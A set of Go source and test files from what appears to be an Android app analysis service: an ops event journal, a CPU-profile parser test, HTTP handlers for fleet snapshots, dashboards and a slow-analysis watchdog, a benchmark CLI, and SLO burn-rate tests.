	// consecutive probe or forward failures.
	NodeEjected Type = "node-ejected"
	// NodeRejoined: an ejected worker answered a probe and returned to the
	// ring at its old arc.
	NodeRejoined Type = "node-rejoined"
	// ScanFailover: a forwarded scan could not reach its owner and moved
	// to the next ring successor.
	ScanFailover Type = "scan-failover"
	// QueueDegraded: a worker's submission queue crossed the saturation
	// threshold (≥80% full).
	QueueDegraded Type = "queue-degraded"
	// QueueRecovered: the queue dropped back below the threshold.
	QueueRecovered Type = "queue-recovered"
	// DrainStarted: the daemon stopped accepting submissions and began
	// draining in-flight jobs.
	DrainStarted Type = "drain-started"
	// DrainFinished: every queued and in-flight job completed.
	DrainFinished Type = "drain-finished"
	// SlowAnalysis: an analysis outlived the -slow-deadline watchdog.
	SlowAnalysis Type = "slow-analysis"
	// ProfileCaptured: an alert (SLO burn rate, watchdog) triggered an
	// immediate CPU-profile window, tagged with the offending digest.
	ProfileCaptured Type = "profile-captured"
)

// knownTypes is the decode-side vocabulary check: a journal line whose
// kind is outside it is a corrupt or incompatible stream, reported
// loudly rather than folded silently into an aggregate.
var knownTypes = map[Type]bool{
	NodeEjected: true, NodeRejoined: true, ScanFailover: true,
	QueueDegraded: true, QueueRecovered: true,
	DrainStarted: true, DrainFinished: true,
	SlowAnalysis: true, ProfileCaptured: true,
}

// Known reports whether t is part of the journal vocabulary.
func (t Type) Known() bool { return knownTypes[t] }

// Event is one timestamped lifecycle transition.
type Event struct {
	Time time.Time `json:"time"`
	Type Type      `json:"type"`
	// Node names the fleet member the event concerns (a worker address on
	// coordinator events, the serving node's own name otherwise).
	Node string `json:"node,omitempty"`
	// Digest keys scan-scoped events (failover, slow analysis).
	Digest string `json:"digest,omitempty"`
	// Detail is a human-readable elaboration (reason, error, queue fill).
	Detail string `json:"detail,omitempty"`
}

// key is the deterministic tiebreak for events sharing a timestamp, so
// Log merges stay associative.
func (e Event) key() string {
	return string(e.Type) + "\x00" + e.Node + "\x00" + e.Digest + "\x00" + e.Detail
}

// DefaultCap bounds a journal when no capacity is given.
const DefaultCap = 128

// Log is the bounded newest-first event list — the serialization and
// merge unit of the journal. Like the telemetry rings it is a selection
// by total order (recency, then key), so merging per-node logs is exact:
// associative, commutative, and independent of arrival order.
type Log struct {
	K       int     `json:"k"`
	Entries []Event `json:"entries,omitempty"`
}

// Observe offers one event to the log.
func (l *Log) Observe(e Event) {
	l.Entries = append(l.Entries, e)
	l.normalize()
}

// Merge folds o into l, keeping the newest max(l.K, o.K) events.
func (l *Log) Merge(o Log) {
	if o.K > l.K {
		l.K = o.K
	}
	l.Entries = append(l.Entries, o.Entries...)
	l.normalize()
}

func (l *Log) normalize() {
	sort.Slice(l.Entries, func(i, j int) bool {
		ti, tj := l.Entries[i].Time, l.Entries[j].Time
		if !ti.Equal(tj) {
			return ti.After(tj)
		}
		return l.Entries[i].key() < l.Entries[j].key()
	})
	// Identical (time, key) duplicates collapse: a log merged into itself
	// (the coordinator refetching a node) must not double its entries.
	dedup := l.Entries[:0]
	for i, e := range l.Entries {
		if i > 0 && e.Time.Equal(l.Entries[i-1].Time) && e.key() == l.Entries[i-1].key() {
			continue
		}
		dedup = append(dedup, e)
	}
	l.Entries = dedup
	if l.K > 0 && len(l.Entries) > l.K {
		l.Entries = l.Entries[:l.K]
	}
}

// Journal is the live concurrent collector: Record appends events as they
// happen, Log snapshots the bounded aggregate. All methods are safe for
// concurrent use and no-ops on a nil receiver, so callers can thread an
// optional *Journal without nil checks.
type Journal struct {
	mu  sync.Mutex
	log Log
}

// NewJournal creates a journal keeping the newest cap events
// (DefaultCap when cap <= 0).
func NewJournal(cap int) *Journal {
	if cap <= 0 {
		cap = DefaultCap
	}
	return &Journal{log: Log{K: cap}}
}

// Record appends one event, stamping Time with the current time when the
// caller left it zero.
func (j *Journal) Record(e Event) {
	if j == nil {
		return
	}
	if e.Time.IsZero() {
		e.Time = time.Now()
	}
	j.mu.Lock()
	j.log.Observe(e)
	j.mu.Unlock()
}

// Log returns a deep copy of the current bounded aggregate, safe to
// serialize or merge while recording continues.
func (j *Journal) Log() Log {
	if j == nil {
		return Log{}
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	return Log{K: j.log.K, Entries: append([]Event(nil), j.log.Entries...)}
}

// Len reports the number of retained events.
func (j *Journal) Len() int {
	if j == nil {
		return 0
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	return len(j.log.Entries)
}

// EncodeJSONL writes each event as one compact JSON object per line —
// the GET /v1/events body and the events.jsonl artifact format.
func EncodeJSONL(w io.Writer, evs []Event) error {
	enc := json.NewEncoder(w)
	for _, e := range evs {
		if err := enc.Encode(e); err != nil {
			return fmt.Errorf("events: encode: %w", err)
		}
	}
	return nil
}

// DecodeJSONL reads every event from a JSONL stream. Blank lines are
// skipped; a malformed line — truncated JSON or an event kind outside
// the journal vocabulary — fails the decode with its line number.
func DecodeJSONL(r io.Reader) ([]Event, error) {
	var out []Event
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	line := 0
	for sc.Scan() {
		line++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		var e Event
		if err := json.Unmarshal(raw, &e); err != nil {
			return nil, fmt.Errorf("events: line %d: %w", line, err)
		}
		if !e.Type.Known() {
			return nil, fmt.Errorf("events: line %d: unknown event kind %q", line, e.Type)
		}
		out = append(out, e)
	}
	if err := sc.Err(); err != nil {
		return nil, fmt.Errorf("events: %w", err)
	}
	return out, nil
}
