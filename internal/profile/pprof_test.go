package profile

import (
	"bytes"
	"compress/gzip"
	"strings"
	"testing"
	"time"
)

// ---- tiny profile.proto encoder (test-only) ----

type protoBuf struct{ b []byte }

func (p *protoBuf) varint(v uint64) {
	for v >= 0x80 {
		p.b = append(p.b, byte(v)|0x80)
		v >>= 7
	}
	p.b = append(p.b, byte(v))
}

func (p *protoBuf) tag(field, wire int) { p.varint(uint64(field<<3 | wire)) }

func (p *protoBuf) intField(field int, v int64) {
	p.tag(field, wireVarint)
	p.varint(uint64(v))
}

func (p *protoBuf) bytesField(field int, b []byte) {
	p.tag(field, wireBytes)
	p.varint(uint64(len(b)))
	p.b = append(p.b, b...)
}

func valueTypeMsg(typ, unit int64) []byte {
	var p protoBuf
	p.intField(fValueTypeType, typ)
	p.intField(fValueTypeUnit, unit)
	return p.b
}

// testProfile builds a deterministic CPU profile:
//
//	strings: 1=samples 2=count 3=cpu 4=nanoseconds 5=fnA 6=fnB 7=fnC
//	locations: 1->[fnA] 2->[fnB] 3->[fnC,fnB] (fnC inlined into fnB)
//	samples: [locA,locB] 10ms · [loc3,locB] 20ms · [locA,locA] 5ms
func testProfile(t *testing.T) []byte {
	t.Helper()
	var p protoBuf
	p.bytesField(fProfileSampleType, valueTypeMsg(1, 2)) // samples/count
	p.bytesField(fProfileSampleType, valueTypeMsg(3, 4)) // cpu/nanoseconds

	sample := func(locs []uint64, count, ns int64, packed bool) {
		var s protoBuf
		if packed {
			var ids protoBuf
			for _, l := range locs {
				ids.varint(l)
			}
			s.bytesField(fSampleLocationID, ids.b)
		} else {
			for _, l := range locs {
				s.intField(fSampleLocationID, int64(l))
			}
		}
		var vals protoBuf
		vals.varint(uint64(count))
		vals.varint(uint64(ns))
		s.bytesField(fSampleValue, vals.b)
		p.bytesField(fProfileSample, s.b)
	}
	sample([]uint64{1, 2}, 1, (10 * time.Millisecond).Nanoseconds(), true)
	sample([]uint64{3, 2}, 2, (20 * time.Millisecond).Nanoseconds(), false)
	sample([]uint64{1, 1}, 1, (5 * time.Millisecond).Nanoseconds(), true)

	loc := func(id uint64, fnIDs ...uint64) {
		var l protoBuf
		l.intField(fLocationID, int64(id))
		for _, fn := range fnIDs {
			var ln protoBuf
			ln.intField(fLineFunctionID, int64(fn))
			l.bytesField(fLocationLine, ln.b)
		}
		p.bytesField(fProfileLocation, l.b)
	}
	loc(1, 1) // fnA
	loc(2, 2) // fnB
	loc(3, 3, 2)

	fn := func(id uint64, nameIdx int64) {
		var f protoBuf
		f.intField(fFunctionID, int64(id))
		f.intField(fFunctionName, nameIdx)
		p.bytesField(fProfileFunction, f.b)
	}
	fn(1, 5)
	fn(2, 6)
	fn(3, 7)

	for _, s := range []string{"", "samples", "count", "cpu", "nanoseconds", "fnA", "fnB", "fnC"} {
		p.bytesField(fProfileStringTab, []byte(s))
	}
	p.intField(fProfileDuration, (250 * time.Millisecond).Nanoseconds())
	p.bytesField(fProfilePeriodType, valueTypeMsg(3, 4))
	p.intField(fProfilePeriod, (10 * time.Millisecond).Nanoseconds())
	return p.b
}

func gzipBytes(t *testing.T, b []byte) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	if _, err := zw.Write(b); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestParseCPUProfileSummary(t *testing.T) {
	raw := testProfile(t)
	for _, tc := range []struct {
		name string
		data []byte
	}{
		{"plain", raw},
		{"gzipped", gzipBytes(t, raw)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s, err := ParseCPUProfile(tc.data, 0)
			if err != nil {
				t.Fatal(err)
			}
			if s.Samples != 3 {
				t.Fatalf("samples = %d, want 3", s.Samples)
			}
			if want := (35 * time.Millisecond).Nanoseconds(); s.TotalNS != want {
				t.Fatalf("total = %d, want %d", s.TotalNS, want)
			}
			if want := (10 * time.Millisecond).Nanoseconds(); s.PeriodNS != want {
				t.Fatalf("period = %d, want %d", s.PeriodNS, want)
			}
			if want := (250 * time.Millisecond).Nanoseconds(); s.DurationNS != want {
				t.Fatalf("duration = %d, want %d", s.DurationNS, want)
			}
			// flat: fnC 20ms (innermost of inlined leaf), fnA 15ms
			// (10ms + the 5ms recursive sample), fnB 0.
			// cum: fnB 30ms (appears in samples 1 and 2), fnA 15ms
			// (the recursive sample counts once), fnC 20ms.
			want := []FuncCost{
				{Func: "fnC", FlatNS: 20e6, CumNS: 20e6},
				{Func: "fnA", FlatNS: 15e6, CumNS: 15e6},
				{Func: "fnB", FlatNS: 0, CumNS: 30e6},
			}
			if len(s.Top) != len(want) {
				t.Fatalf("top = %+v, want %+v", s.Top, want)
			}
			for i := range want {
				if s.Top[i] != want[i] {
					t.Fatalf("top[%d] = %+v, want %+v", i, s.Top[i], want[i])
				}
			}
			if s.TopFunc() != "fnC" {
				t.Fatalf("top func = %q", s.TopFunc())
			}
		})
	}
}

func TestParseCPUProfileTopN(t *testing.T) {
	s, err := ParseCPUProfile(testProfile(t), 1)
	if err != nil {
		t.Fatal(err)
	}
	if len(s.Top) != 1 || s.Top[0].Func != "fnC" {
		t.Fatalf("topN=1 kept %+v", s.Top)
	}
}

func TestParseCPUProfileRejectsGarbage(t *testing.T) {
	if _, err := ParseCPUProfile([]byte{0xff, 0xff, 0xff}, 0); err == nil {
		t.Fatal("garbage parsed without error")
	}
	// A truncated valid profile must error, not return a partial summary.
	raw := testProfile(t)
	if _, err := ParseCPUProfile(raw[:len(raw)/2], 0); err == nil {
		t.Fatal("truncated profile parsed without error")
	}
}

func TestParseCPUProfileRejectsNonCPU(t *testing.T) {
	// A "profile" with byte-unit values and no period is not CPU time.
	var p protoBuf
	p.bytesField(fProfileSampleType, valueTypeMsg(1, 2))
	for _, s := range []string{"", "inuse_space", "bytes"} {
		p.bytesField(fProfileStringTab, []byte(s))
	}
	if _, err := ParseCPUProfile(p.b, 0); err == nil || !strings.Contains(err.Error(), "not a CPU profile") {
		t.Fatalf("err = %v, want not-a-CPU-profile", err)
	}
}

// TestParseRealCPUProfile round-trips a live runtime/pprof window
// through the decoder: whatever the runtime emitted must parse, and a
// busy loop long enough to be sampled must yield samples.
func TestParseRealCPUProfile(t *testing.T) {
	r := New(Options{WindowDur: 80 * time.Millisecond})
	stop := make(chan struct{})
	go func() { // keep a core busy so the window has something to sample
		x := 0
		for {
			select {
			case <-stop:
				return
			default:
				x++
			}
		}
	}()
	defer close(stop)
	w := r.Capture(TriggerSampler, "", "")
	if w.Err != "" {
		t.Fatalf("capture error: %s", w.Err)
	}
	if len(w.Pprof) == 0 {
		t.Fatal("no pprof bytes captured")
	}
	if w.Summary == nil {
		t.Fatal("live profile produced no summary")
	}
}
