package service

import (
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"runtime/debug"
	"strconv"
	"strings"
	"time"

	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/profile"
	"github.com/dydroid/dydroid/internal/telemetry"
	"github.com/dydroid/dydroid/internal/trace"
)

// handleFleet serves the current fleet aggregate as a versioned JSON
// snapshot — the same shape `experiments` writes per shard and
// `apkinspect fleet merge` combines. The ops journal rides along in the
// snapshot's events field, so a coordinator federating member snapshots
// federates their timelines with the same merge.
func (s *Server) handleFleet(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, s.fleetSnapshot())
}

// fleetSnapshot is the served aggregate: the fleet snapshot with the
// live ops journal folded into its events log.
func (s *Server) fleetSnapshot() *telemetry.Snapshot {
	snap := s.cfg.Fleet.Snapshot()
	snap.Events.Merge(s.cfg.Journal.Log())
	return snap
}

// handleEvents serves the ops journal as JSONL, newest first — the
// format the coordinator federates and the cluster tests archive as an
// artifact.
func (s *Server) handleEvents(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/x-ndjson")
	events.EncodeJSONL(w, s.cfg.Journal.Log().Entries)
}

// writeSLOProm appends the SLO burn-rate gauges to a Prometheus
// exposition. The registry only carries int64 counters and gauges, so
// the float-valued SLO lines are rendered here from the live reports.
func (s *Server) writeSLOProm(w io.Writer) {
	reports := s.cfg.Fleet.Snapshot().SLO.Reports(s.now())
	if len(reports) == 0 {
		return
	}
	for _, name := range []string{
		"dydroid_slo_burn_rate_fast", "dydroid_slo_burn_rate_slow",
		"dydroid_slo_error_budget_used", "dydroid_slo_alert_firing",
	} {
		fmt.Fprintf(w, "# TYPE %s gauge\n", name)
		for _, r := range reports {
			var v float64
			switch name {
			case "dydroid_slo_burn_rate_fast":
				v = r.Fast.BurnRate
			case "dydroid_slo_burn_rate_slow":
				v = r.Slow.BurnRate
			case "dydroid_slo_error_budget_used":
				v = r.BudgetUsed
			case "dydroid_slo_alert_firing":
				if r.Alert != telemetry.AlertOK {
					v = 1
				}
			}
			fmt.Fprintf(w, "%s{objective=%q} %g\n", name, r.Name, v)
		}
	}
}

// handleDashboard renders the self-refreshing HTML fleet dashboard. The
// refresh interval defaults to 2 s and is tunable per request with
// ?refresh=N (0 disables the meta refresh); a non-numeric or negative
// value is a 400, not a silent fallback.
func (s *Server) handleDashboard(w http.ResponseWriter, r *http.Request) {
	refresh := 2
	if q := r.URL.Query().Get("refresh"); q != "" {
		n, err := strconv.Atoi(q)
		if err != nil || n < 0 {
			httpError(w, http.StatusBadRequest,
				"refresh must be a non-negative integer number of seconds")
			return
		}
		refresh = n
	}
	vi := versionInfo()
	header := []telemetry.KV{
		{Key: "build", Value: vi.Version + " (" + vi.GoVersion + ")"},
		{Key: "record version", Value: strconv.Itoa(vi.RecordVersion)},
		{Key: "snapshot version", Value: strconv.Itoa(vi.SnapshotVersion)},
	}
	if vi.VCSRevision != "" {
		header = append(header, telemetry.KV{Key: "revision", Value: shortRev(vi.VCSRevision)})
	}
	var gauges map[string]int64
	if s.reg != nil {
		gauges = s.reg.Snapshot().Gauges
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	telemetry.RenderDashboard(w, telemetry.DashboardData{
		Title:   "dydroidd fleet",
		Refresh: refresh,
		Header:  header,
		Snap:    s.fleetSnapshot(),
		Gauges:  gauges,
		Profile: s.profileTiles(),
		Now:     s.now(),
	})
}

// versionResponse is the body of GET /v1/version: build identity plus the
// on-the-wire format versions a client needs for compatibility checks.
type versionResponse struct {
	Version     string `json:"version"`
	GoVersion   string `json:"go_version"`
	VCSRevision string `json:"vcs_revision,omitempty"`
	VCSTime     string `json:"vcs_time,omitempty"`
	// RecordVersion is the stored-verdict format (resultstore compat).
	RecordVersion int `json:"record_version"`
	// SnapshotVersion is the fleet snapshot format (merge compat).
	SnapshotVersion int `json:"snapshot_version"`
}

func (s *Server) handleVersion(w http.ResponseWriter, r *http.Request) {
	writeJSON(w, http.StatusOK, versionInfo())
}

// versionInfo reads the build identity stamped into the binary. Without
// build info (unusual outside tests) the format versions still answer.
func versionInfo() versionResponse {
	v := versionResponse{
		Version:         "devel",
		RecordVersion:   RecordVersion,
		SnapshotVersion: telemetry.SnapshotVersion,
	}
	bi, ok := debug.ReadBuildInfo()
	if !ok {
		return v
	}
	v.GoVersion = bi.GoVersion
	if bi.Main.Version != "" && bi.Main.Version != "(devel)" {
		v.Version = bi.Main.Version
	}
	for _, st := range bi.Settings {
		switch st.Key {
		case "vcs.revision":
			v.VCSRevision = st.Value
		case "vcs.time":
			v.VCSTime = st.Value
		}
	}
	return v
}

func shortRev(rev string) string {
	if len(rev) > 12 {
		return rev[:12]
	}
	return rev
}

// armWatchdog starts the slow-analysis watchdog for one submission. If
// the analysis outlives Config.SlowDeadline a warning is logged while the
// run is still in flight (digest only — the live span tree is being
// mutated by the worker, so rendering waits); the returned disarm func,
// called with the closed trace, then logs the full rendered span tree so
// the operator sees where the time went. With a zero deadline both sides
// are no-ops.
func (s *Server) armWatchdog(digest string) func(*trace.Trace) {
	if s.cfg.SlowDeadline <= 0 {
		return func(*trace.Trace) {}
	}
	start := s.now()
	timer := time.AfterFunc(s.cfg.SlowDeadline, func() {
		s.reg.Add("service.slow.analyses", 1)
		// Capture a profile window while the slow analysis is still in
		// flight — the whole point of the trip wire is to see where the
		// overrunning run is spending its time.
		s.cfg.Profiles.TryTrigger(profile.TriggerWatchdog, digest, TraceID(digest))
		s.watchdogLogger().Warn("analysis exceeding deadline",
			"digest", digest,
			"deadline", s.cfg.SlowDeadline.String())
	})
	return func(tr *trace.Trace) {
		stopped := timer.Stop()
		elapsed := s.now().Sub(start)
		// Slowness is decided by elapsed time, not timer state: Stop can
		// win its race against the runtime even after the deadline passed,
		// in which case the in-flight callback never ran and the counter,
		// journal event and rendered span tree would silently go missing.
		if elapsed <= s.cfg.SlowDeadline {
			return
		}
		if stopped {
			s.reg.Add("service.slow.analyses", 1)
			s.cfg.Profiles.TryTrigger(profile.TriggerWatchdog, digest, TraceID(digest))
		}
		s.cfg.Journal.Record(events.Event{
			Type: events.SlowAnalysis, Node: s.cfg.Node, Digest: digest,
			Detail: fmt.Sprintf("elapsed %s over deadline %s", elapsed, s.cfg.SlowDeadline),
		})
		var b strings.Builder
		trace.Render(&b, tr)
		s.watchdogLogger().Warn("slow analysis completed",
			"digest", digest,
			"elapsed", elapsed.String(),
			"deadline", s.cfg.SlowDeadline.String(),
			"spans", b.String())
	}
}

func (s *Server) watchdogLogger() *slog.Logger {
	if s.cfg.Logger != nil {
		return s.cfg.Logger
	}
	return slog.Default()
}
