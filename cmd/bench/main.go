// Command bench runs the recorded-trajectory benchmark harness and
// compares trajectory points.
//
//	bench run  [-name NAME] [-seed N] [-scale F] [-workers N] [-stream=BOOL] [-out FILE]
//	bench diff [-threshold PCT] [-fail-fold N] OLD.json NEW.json
//
// `bench run` executes the measurement pipeline over a fixed-seed corpus
// and prints a human-readable table. With -out it writes the
// schema-versioned JSON trajectory point to that file; without -out it
// records the next committed point — it auto-numbers BENCH_<n>.json in
// the current directory and prints the headline-metric diff against the
// previous point. `bench diff` loads two trajectory points and reports
// every metric that regressed beyond the threshold; it exits 1 when
// regressions are found so CI can branch on it. A missing OLD file is
// not an error: the first point of a trajectory has no baseline, so the
// command notes that and exits 0. With -fail-fold N the
// threshold findings become warnings and only a headline metric
// collapsing by N times or more (bench.FoldGate) fails the command.
package main

import (
	"errors"
	"flag"
	"fmt"
	"io"
	"io/fs"
	"os"

	"github.com/dydroid/dydroid/internal/bench"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	switch os.Args[1] {
	case "run":
		os.Exit(cmdRun(os.Stdout, os.Args[2:]))
	case "diff":
		os.Exit(cmdDiff(os.Stdout, os.Args[2:]))
	default:
		fmt.Fprintf(os.Stderr, "bench: unknown command %q\n", os.Args[1])
		usage()
		os.Exit(2)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, `usage:
  bench run  [-name NAME] [-seed N] [-scale F] [-workers N] [-stream=BOOL] [-out FILE]
  bench diff [-threshold PCT] [-fail-fold N] OLD.json NEW.json`)
}

func cmdRun(w io.Writer, args []string) int {
	fset := flag.NewFlagSet("bench run", flag.ExitOnError)
	name := fset.String("name", "trajectory", "label recorded in the result")
	seed := fset.Int64("seed", 2016, "corpus generation seed")
	scale := fset.Float64("scale", 0.02, "marketplace scale (1.0 = 58,739 apps)")
	workers := fset.Int("workers", 0, "pipeline parallelism (0 = GOMAXPROCS)")
	stream := fset.Bool("stream", true, "consume the corpus via the streaming producer")
	out := fset.String("out", "", "write the JSON point here (default: auto-number BENCH_<n>.json and diff vs the previous point)")
	fset.Parse(args)

	target, prev := *out, ""
	if target == "" {
		var err error
		target, prev, err = bench.NextTrajectory(".")
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
	}

	res, err := bench.Run(bench.Config{Name: *name, Seed: *seed, Scale: *scale, Workers: *workers, Stream: *stream})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	fmt.Fprint(w, res.Table())
	if err := res.WriteFile(target); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	fmt.Fprintf(w, "\nwrote %s\n", target)
	if prev != "" {
		base, err := bench.ReadFile(prev)
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 1
		}
		fmt.Fprintf(w, "\nvs %s:\n%s", prev, bench.Compare(base, res))
	}
	return 0
}

func cmdDiff(w io.Writer, args []string) int {
	fset := flag.NewFlagSet("bench diff", flag.ExitOnError)
	threshold := fset.Float64("threshold", bench.DefaultRegressionPct, "regression threshold in percent")
	failFold := fset.Float64("fail-fold", 0, "fail only on headline metrics regressing by this factor or more (0 = fail on any threshold regression)")
	fset.Parse(args)
	if fset.NArg() != 2 {
		usage()
		return 2
	}
	base, err := bench.ReadFile(fset.Arg(0))
	if errors.Is(err, fs.ErrNotExist) {
		// The first point of a trajectory has nothing to regress against;
		// treat an absent baseline as a clean pass, not a CI failure.
		fmt.Fprintf(w, "no baseline at %s — nothing to compare, passing\n", fset.Arg(0))
		return 0
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	head, err := bench.ReadFile(fset.Arg(1))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	fmt.Fprint(w, bench.Compare(base, head))
	regs := bench.Diff(base, head, *threshold)
	if len(regs) == 0 {
		fmt.Fprintf(w, "no regressions beyond %.1f%% (%s -> %s)\n", *threshold, fset.Arg(0), fset.Arg(1))
	} else {
		fmt.Fprintf(w, "%d regression(s) beyond %.1f%% (%s -> %s):\n", len(regs), *threshold, fset.Arg(0), fset.Arg(1))
		for _, g := range regs {
			fmt.Fprintf(w, "  %s\n", g)
		}
	}
	if *failFold > 0 {
		// Threshold findings above were informational; only a fold-scale
		// collapse in a headline metric blocks.
		gated := bench.FoldGate(base, head, *failFold)
		if len(gated) > 0 {
			fmt.Fprintf(w, "%d headline metric(s) regressed %.3gx or worse:\n", len(gated), *failFold)
			for _, g := range gated {
				fmt.Fprintf(w, "  %s\n", g)
			}
			return 1
		}
		return 0
	}
	if len(regs) > 0 {
		return 1
	}
	return 0
}
