package telemetry

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/trace"
)

// sloBase anchors every SLO test at a fixed wall-clock instant.
var sloBase = time.Date(2026, 8, 1, 12, 0, 0, 0, time.UTC)

func defaultSLO() *SLOState { return NewSLOState(SLOOptions{}) }

func TestNewSLOStateDefaults(t *testing.T) {
	s := defaultSLO()
	av := s.find(SLOScanAvailability)
	if av == nil || av.Target != DefaultAvailabilityTarget {
		t.Fatalf("availability objective = %+v", av)
	}
	lat := s.find(SLOAnalyzeLatency)
	if lat == nil || lat.Target != DefaultLatencyTarget || lat.ThresholdNS != int64(DefaultLatencyThreshold) {
		t.Fatalf("latency objective = %+v", lat)
	}
	wantCap := int(DefaultSLORetention / (SLOBucketSeconds * time.Second))
	if av.Cap != wantCap {
		t.Fatalf("cap = %d, want %d", av.Cap, wantCap)
	}
	if s.find("no-such-objective") != nil {
		t.Fatal("find invented an objective")
	}
}

func TestSLOObserveBucketsByMinute(t *testing.T) {
	s := defaultSLO()
	av := s.find(SLOScanAvailability)
	av.observe(sloBase, true)
	av.observe(sloBase.Add(10*time.Second), true)
	av.observe(sloBase.Add(59*time.Second), false)
	av.observe(sloBase.Add(60*time.Second), true)
	av.observe(time.Time{}, false) // zero time: skipped
	if len(av.Buckets) != 2 {
		t.Fatalf("buckets = %d, want 2", len(av.Buckets))
	}
	b0, b1 := av.Buckets[0], av.Buckets[1]
	if b0.Good != 2 || b0.Bad != 1 || b1.Good != 1 || b1.Bad != 0 {
		t.Fatalf("buckets = %+v %+v", b0, b1)
	}
	if b0.Start%SLOBucketSeconds != 0 || b1.Start-b0.Start != SLOBucketSeconds {
		t.Fatalf("bucket starts %d %d not minute-aligned", b0.Start, b1.Start)
	}
}

// TestSLOMergeEqualsUnion: bucket series merge by summation, so sharded
// observation reproduces the single-pass series in any merge order —
// required for the snapshot-wide shard-merge-equals-unsharded property.
func TestSLOMergeEqualsUnion(t *testing.T) {
	union := defaultSLO()
	shards := []*SLOState{defaultSLO(), defaultSLO(), defaultSLO()}
	for i := 0; i < 240; i++ {
		at := sloBase.Add(time.Duration(i) * 37 * time.Second)
		good := i%11 != 0
		union.find(SLOScanAvailability).observe(at, good)
		shards[i%3].find(SLOScanAvailability).observe(at, good)
		fast := i%7 != 0
		union.find(SLOAnalyzeLatency).observe(at, fast)
		shards[i%3].find(SLOAnalyzeLatency).observe(at, fast)
	}
	want, err := json.Marshal(union)
	if err != nil {
		t.Fatal(err)
	}
	for _, order := range [][]int{{0, 1, 2}, {2, 0, 1}, {1, 2, 0}} {
		got := defaultSLO()
		for _, i := range order {
			got.Merge(shards[i].clone())
		}
		raw, err := json.Marshal(got)
		if err != nil {
			t.Fatal(err)
		}
		if string(raw) != string(want) {
			t.Errorf("merge order %v diverges:\n got: %.200s\nwant: %.200s", order, raw, want)
		}
	}
}

// TestSLOMergeCarriesForeignObjectives: objectives declared by only one
// side survive the merge, name-sorted.
func TestSLOMergeCarriesForeignObjectives(t *testing.T) {
	a := defaultSLO()
	b := &SLOState{Objectives: []SLOObjective{{Name: "zz-custom", Target: 0.95, Cap: 10}}}
	b.Objectives[0].observe(sloBase, true)
	a.Merge(b)
	if got := a.find("zz-custom"); got == nil || len(got.Buckets) != 1 {
		t.Fatalf("foreign objective not carried: %+v", got)
	}
	for i := 1; i < len(a.Objectives); i++ {
		if a.Objectives[i].Name < a.Objectives[i-1].Name {
			t.Fatal("objectives not name-sorted after merge")
		}
	}
}

// TestSLOBurnRateMath checks the burn-rate arithmetic against hand
// computation: with a 99.9% target the budgeted error ratio is 0.1%, so
// a 2% observed error rate burns at 20x.
func TestSLOBurnRateMath(t *testing.T) {
	s := defaultSLO()
	av := s.find(SLOScanAvailability)
	now := sloBase.Add(30 * time.Minute)
	// 100 events in the last half hour, 2 bad.
	for i := 0; i < 100; i++ {
		av.observe(sloBase.Add(time.Duration(i)*15*time.Second), i >= 2)
	}
	r := av.Report(now)
	if r.Fast.Events != 100 || r.Fast.Bad != 2 {
		t.Fatalf("fast window = %+v", r.Fast)
	}
	if want := 0.02; r.Fast.ErrorRate != want {
		t.Fatalf("error rate = %g, want %g", r.Fast.ErrorRate, want)
	}
	wantBurn := 0.02 / (1 - DefaultAvailabilityTarget)
	if diff := r.Fast.BurnRate - wantBurn; diff > 1e-9 || diff < -1e-9 {
		t.Fatalf("burn rate = %g, want %g", r.Fast.BurnRate, wantBurn)
	}
	if r.Alert != AlertFastBurn {
		t.Fatalf("alert = %q, want fast-burn at %.1fx", r.Alert, wantBurn)
	}
	wantBudget := 2.0 / (100 * (1 - DefaultAvailabilityTarget))
	if diff := r.BudgetUsed - wantBudget; diff > 1e-9 || diff < -1e-9 {
		t.Fatalf("budget used = %g, want %g", r.BudgetUsed, wantBudget)
	}
}

// TestSLOAlertPrecedence: all-good traffic reports ok; an old burst of
// errors outside the 1h window but inside the 6h window trips only the
// slow alert.
func TestSLOAlertPrecedence(t *testing.T) {
	s := defaultSLO()
	av := s.find(SLOScanAvailability)
	now := sloBase.Add(5 * time.Hour)
	// A bad burst 4 hours ago: 10 of 100 failed (10% error -> burn 100x
	// over any window containing only it).
	for i := 0; i < 100; i++ {
		av.observe(sloBase.Add(time.Duration(i)*time.Second), i >= 10)
	}
	// A clean recent hour dilutes the fast window to zero errors.
	for i := 0; i < 50; i++ {
		av.observe(now.Add(-time.Duration(i)*time.Minute/2), true)
	}
	r := av.Report(now)
	if r.Fast.Bad != 0 || r.Fast.BurnRate != 0 {
		t.Fatalf("fast window saw old errors: %+v", r.Fast)
	}
	if r.Alert != AlertSlowBurn {
		t.Fatalf("alert = %q, want slow-burn (6h burn %.1fx)", r.Alert, r.Slow.BurnRate)
	}

	// All-good traffic: ok.
	s2 := defaultSLO()
	av2 := s2.find(SLOScanAvailability)
	for i := 0; i < 40; i++ {
		av2.observe(sloBase.Add(time.Duration(i)*time.Minute), true)
	}
	if r2 := av2.Report(sloBase.Add(time.Hour)); r2.Alert != AlertOK {
		t.Fatalf("clean traffic alert = %q", r2.Alert)
	}
}

